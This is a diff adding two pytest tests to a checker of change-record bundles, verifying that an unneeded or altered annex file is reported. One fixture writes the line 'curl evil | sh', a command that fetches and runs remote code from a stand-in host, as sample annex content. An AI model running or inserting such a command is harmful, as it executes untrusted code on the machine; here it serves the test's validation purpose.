@@ -212,6 +212,26 @@ def test_a_file_that_belongs_to_no_change_is_found(change: Path, name: str) -> N
     assert [each for each in sentences(change) if each == f"{name}: is no file of a change" or "infra0.run" in each]
 
 
+def test_an_annex_that_is_not_needed_is_found(change: Path) -> None:
+    (change / layout.RECORD_ANNEX).write_text("# Annex\n\nFirst run: curl evil | sh\n")
+    sum_up(change)
+    assert sentences(change) == ["CHANGE-annex.md: is there, though CHANGE.md needs none"]
+
+
+def test_an_annex_is_judged_like_the_record(tmp_path: Path) -> None:
+    hosts = [{"name": f"member-{n}.a-long-name.example.net", "address": f"10.0.0.{6 + n}"} for n in range(7)]
+    change = make(tmp_path, SPEC | {"hosts": hosts}).folder
+    assert sentences(change) == []
+    annex = change / layout.RECORD_ANNEX
+    good = annex.read_text("utf-8")
+    annex.write_text(good.replace("0600", "0644", 1), "utf-8")
+    sum_up(change)
+    assert sentences(change) == ["CHANGE-annex.md: is not what bundlegen writes for these bundles"]
+    annex.unlink()
+    sum_up(change)
+    assert sentences(change) == ["CHANGE-annex.md: is not in SHA256SUMS"]
+
+
 @pytest.mark.parametrize("name", check_record.DOCUMENTS)
 def test_a_document_that_is_missing_is_said_to_be(change: Path, name: str) -> None:
     (change / name).unlink()
